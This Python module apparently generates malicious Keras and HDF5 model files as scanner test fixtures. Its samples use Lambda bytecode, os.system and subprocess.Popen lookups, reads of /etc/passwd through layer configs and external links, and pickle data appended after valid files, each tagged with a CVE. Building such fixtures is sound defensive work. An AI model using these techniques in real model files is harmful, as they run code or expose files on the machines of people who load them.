"""Keras v2 in HDF5, and HDF5 that reaches other files: written by h5py, so that the container is the real one."""

from __future__ import annotations

import io
import json
from typing import TYPE_CHECKING, Any

import h5py
import numpy as np

from corpus.malicious.containers import EVIL
from corpus.malicious.keras_zip import BYTECODE, LAYERS, archive, model
from corpus.packing import plain_zip
from corpus.sample import SHELL, Sample, file

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

STATIC = {"static": "proved with the Keras release that the advisory names"}


def stored(fill: Callable[[Any], None], **how: Any) -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w", track_order=True, **how) as store:
        fill(store)
    return out.getvalue()


def legacy(
    config: dict[str, Any] | str, *, as_bytes: bool = False, training: dict[str, Any] | None = None, **how: Any
) -> bytes:
    """Return a model as Keras v2 saves it: its configuration an attribute of the root."""
    text = config if isinstance(config, str) else json.dumps(config)

    def fill(store: Any) -> None:
        store.attrs["keras_version"] = "2.15.0"
        store.attrs["backend"] = "tensorflow"
        store.attrs["model_config"] = np.bytes_(text.encode()) if as_bytes else text
        if training is not None:
            store.attrs["training_config"] = json.dumps(training)
        store.create_group("model_weights")["dense"] = np.ones((2, 1), "f4")

    return stored(fill, **how)


def v2(*layers: dict[str, Any]) -> dict[str, Any]:
    first = {
        "class_name": "InputLayer",
        "config": {"batch_input_shape": [None, 2], "dtype": "float32", "name": "input"},
    }
    last = {"class_name": "Dense", "config": {"name": "dense", "units": 1, "activation": "linear"}}
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [first, *layers, last]}}


def v2_lambda(**more: Any) -> dict[str, Any]:
    config = {
        "name": "lambda",
        "function": {"class_name": "__tuple__", "items": [BYTECODE, None, None]},
        "function_type": "lambda",
        "module": "x",
        "output_shape": None,
        "output_shape_type": "raw",
        "arguments": {},
    }
    return {"class_name": "Lambda", "config": {**config, **more}}


def samples() -> Iterator[Sample]:
    """Yield keras-v2 and hdf5."""
    group, reference = "keras-v2", "CVE-2025-9905"
    lam = v2(v2_lambda())
    rows: dict[str, tuple[bytes, str]] = {
        "lambda": (legacy(lam), reference),
        "lambda-as-bytes": (legacy(lam, as_bytes=True), reference),
        "lambda-latest": (legacy(lam, libver="latest"), reference),
        "lambda-list": (legacy(v2(v2_lambda(function=[BYTECODE, None, None]))), reference),
        "lambda-function-by-name": (legacy(v2(v2_lambda(function="system", function_type="function", module="os"))), reference),
        "lambda-output-shape": (legacy(v2(v2_lambda(function="relu", function_type="function", output_shape=[BYTECODE, None, None], output_shape_type="lambda"))), reference),
        "lambda-nested-model": (legacy(v2({"class_name": "Sequential", "config": {"name": "inner", "layers": [v2_lambda()]}})), reference),
        "lambda-in-a-wrapper": (legacy(v2({"class_name": "TimeDistributed", "config": {"name": "t", "layer": v2_lambda()}})), reference),
        "lambda-in-a-functional": (legacy({"class_name": "Functional", "config": {"name": "f", "layers": [{**v2_lambda(), "inbound_nodes": []}], "input_layers": [], "output_layers": []}}), reference),
        "lambda-escaped": (legacy(json.dumps(lam).replace("Lambda", "\\u004cambda")), reference),
        "lambda-behind-a-user-block": (legacy(lam, userblock_size=512), reference),
        "custom-layer": (legacy(v2({"class_name": "evil>Layer", "config": {"name": "x"}})), ""),
        "custom-layer-of-a-module": (legacy(v2({"class_name": "Popen", "module": "subprocess", "registered_name": None, "config": {"args": [SHELL]}})), "CVE-2025-1550"),
        "loss-lambda": (legacy(v2(), training={"loss": {"class_name": "__lambda__", "config": {"code": BYTECODE}}, "optimizer_config": {"class_name": "Adam", "config": {}}}), reference),
        "tf-op-lambda": (legacy(v2({"class_name": "TFOpLambda", "config": {"name": "t", "function": "io.write_file"}})), "TFOpLambda"),
        "string-lookup": (legacy(v2({"class_name": "StringLookup", "config": {"name": "s", "vocabulary": "/etc/passwd"}})), "CVE-2025-12058"),
        "torch-module-wrapper": (legacy(v2({"class_name": "TorchModuleWrapper", "config": {"name": "t", "module": "gAJ9Lg=="}})), "CVE-2025-49655"),
    }  # fmt: skip
    for name in (
        "lambda-bytecode",
        "class-of-subprocess",
        "lambda-get-file",
        "unsafe-switch-as-a-layer",
        "registered-name-of-a-module",
    ):
        rows[f"v3-config-{name}"] = (legacy(model(LAYERS[name][0])), LAYERS[name][1])
    for name, (data, cve) in rows.items():
        yield file(group, name, "model.h5", data, cve, **STATIC)
    for filename in ("model.keras", "weights.bin", "model.hdf5", "model.pt"):
        yield file(group, f"renamed-{filename}", filename, rows["lambda"][0], reference, **STATIC)
    yield file(group, "in-a-zip", "model.zip", plain_zip({"model.h5": rows["lambda"][0]}), reference, **STATIC)
    yield file(
        group,
        "large-config",
        "model.h5",
        legacy(
            v2(*[{"class_name": "Dense", "config": {"name": f"d{i}", "units": 1}} for i in range(500)], v2_lambda())
        ),
        reference,
        **STATIC,
    )
    yield from _links()


def _links() -> Iterator[Sample]:
    def external_link(store: Any) -> None:
        store["x"] = h5py.ExternalLink("/etc/passwd.h5", "/x")

    def external_relative(store: Any) -> None:
        store["layers/dense/vars/0"] = h5py.ExternalLink("../../secret.h5", "/x")

    def external_storage(store: Any) -> None:
        store.create_dataset("layers/dense/vars/0", (16,), "u1", external=[("/etc/passwd", 0, 16)])

    def external_parents(store: Any) -> None:
        store.create_dataset("x", (16,), "u1", external=[("../../etc/passwd", 0, 16)])

    def virtual(store: Any) -> None:
        layout = h5py.VirtualLayout((4,), "f4")
        layout[:] = h5py.VirtualSource("/etc/secret.h5", "x", (4,))
        store.create_virtual_dataset("x", layout)

    for name, fill in {
        "external-link": external_link,
        "external-link-relative": external_relative,
        "external-storage": external_storage,
        "external-storage-parents": external_parents,
        "virtual-dataset": virtual,
    }.items():
        for suffix, how in (("", {}), ("-latest", {"libver": "latest"})):
            data = stored(fill, **how)
            yield file("hdf5", f"{name}{suffix}", "model.weights.h5", data, "CVE-2026-1669", **STATIC)
        yield file(
            "keras-v3",
            f"weights-{name}",
            "model.keras",
            plain_zip(archive(model(), weights=stored(fill))),
            "CVE-2026-1669",
            **STATIC,
        )
    good = stored(lambda store: store.create_dataset("x", data=np.ones(4)))
    yield file("hdf5", "pickle-behind", "weights.h5", good + EVIL, **STATIC)
    yield file("hdf5", "zip-behind", "weights.h5", good + plain_zip({"data.pkl": EVIL}), **STATIC)
    yield file("hdf5", "cut", "weights.h5", good[: len(good) // 2], **STATIC)
    yield file("hdf5", "superblock-lies", "weights.h5", good[:40] + b"\xff" * 8 + good[48:], **STATIC)
